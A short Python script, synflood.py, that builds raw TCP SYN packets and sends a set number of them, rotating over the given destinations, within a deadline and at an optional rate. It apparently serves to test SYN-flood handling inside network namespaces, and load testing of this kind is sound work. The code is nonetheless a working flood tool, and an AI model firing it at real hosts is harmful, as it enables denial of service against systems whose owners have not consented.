#!/usr/bin/env python3
"""Sends COUNT raw TCP SYNs to DEST:PORT (IPv4). SOURCE must be the sending namespace's own address: the
kernel fills in the IP header (and its source); SOURCE only enters the TCP checksum. Source ports cycle from 20000, as fast as the
socket takes them, bounded by count and by a deadline of SECONDS. DEST may be a comma-separated list
(SYNs rotate over it). Prints the number sent.
With PPS, sending is paced to about PPS packets per second.
usage: synflood.py SOURCE DEST[,DEST...] PORT COUNT [SECONDS [PPS]]"""
import socket
import struct
import sys
import time

from inet_checksum import checksum  # noqa: E402 (next to this script)

src, dsts, dport, count = sys.argv[1], sys.argv[2].split(","), int(sys.argv[3]), int(sys.argv[4])
start = time.monotonic()
deadline = start + (float(sys.argv[5]) if len(sys.argv) > 5 else 20.0)
pps = float(sys.argv[6]) if len(sys.argv) > 6 else 0.0
s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP)
saddr = socket.inet_aton(src)
daddrs = [socket.inet_aton(d) for d in dsts]


sent = 0
for i in range(count):
    now = time.monotonic()
    if now > deadline:
        break
    if pps and i % 50 == 0:
        ahead = start + i / pps - now
        if ahead > 0:
            time.sleep(ahead)
    sport = 20000 + (i % 40000)
    dst, daddr = dsts[i % len(dsts)], daddrs[i % len(dsts)]
    header = struct.pack("!HHIIBBHHH", sport, dport, i, 0, 5 << 4, 0x02, 64240, 0, 0)
    pseudo = saddr + daddr + struct.pack("!BBH", 0, socket.IPPROTO_TCP, len(header))
    header = header[:16] + struct.pack("!H", checksum(pseudo + header)) + header[18:]
    # A full socket buffer (ENOBUFS) is transient: retry this SYN until it goes out or the deadline passes.
    while time.monotonic() <= deadline:
        try:
            s.sendto(header, (dst, 0))
            sent += 1
            break
        except OSError:
            time.sleep(0.001)
print(sent)
